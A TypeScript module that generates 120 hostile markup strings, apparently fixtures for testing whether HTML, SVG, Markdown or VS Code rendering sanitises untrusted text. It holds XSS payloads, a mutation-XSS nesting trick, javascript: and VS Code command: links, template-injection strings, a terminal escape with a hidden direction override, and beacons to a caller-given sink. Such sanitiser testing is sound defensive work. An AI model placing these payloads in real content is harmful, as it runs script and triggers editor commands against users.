/** What a text would do if it were obeyed: run this, which both leaves a mark in the page and calls the sink. */
function deed(sink: string): string {
  return `globalThis.pwned=1;new Image().src='${sink}/ran'`;
}

/** Shapes in which text becomes markup, script or a link somewhere: HTML, SVG, Markdown of VS Code, templates. */
const SHAPES: readonly ((run: string, sink: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'-${run}-'`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img/src/onerror=${run}>`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<svg><foreignObject><body onload="${run}">`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<body onpageshow="${run}">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<video><source onerror="${run}">`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href="command:workbench.action.closeAllEditors">${run}</a>`,
  (_, sink) => `<link rel=stylesheet href="${sink}/css">`,
  (_, sink) => `<style>@import "${sink}/import"; body{background:url(${sink}/bg)}</style>`,
  (_, sink) => `<meta http-equiv=refresh content="0;url=${sink}/meta">`,
  (_, sink) => `<base href="${sink}/">`,
  (_, sink) => `<form action="${sink}/form"><button autofocus>x</button></form>`,
  (_, sink) => `<img src="${sink}/pixel.png">`,
  (_, sink) => `![x](${sink}/hover.png)`,
  () => '[x](command:workbench.action.closeAllEditors)',
  () => '[$(flame) x](command:workbench.action.closeAllEditors "go")',
  (run) => `[x](javascript:${run})`,
  (run) => `\${${run}}{{constructor.constructor("${run}")()}}`,
  (run) => `javascript:${run}`,
  (run) => `\u001b]8;;command:workbench.action.closeAllEditors\u0007x\u001b]8;;\u0007${run}\u202e`,
];

/** Each shape plain, in upper case, behind a tab, and with an entity in the place of the first bracket: 120 texts. */
export function hostileMarkup(sink: string): readonly string[] {
  const run = deed(sink);
  return SHAPES.map((shape) => shape(run, sink)).flatMap((text) => [
    text,
    text.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
    `\t ${text}`,
    text.replace('<', '&lt;').replace('[', '&#91;').concat(text),
  ]);
}
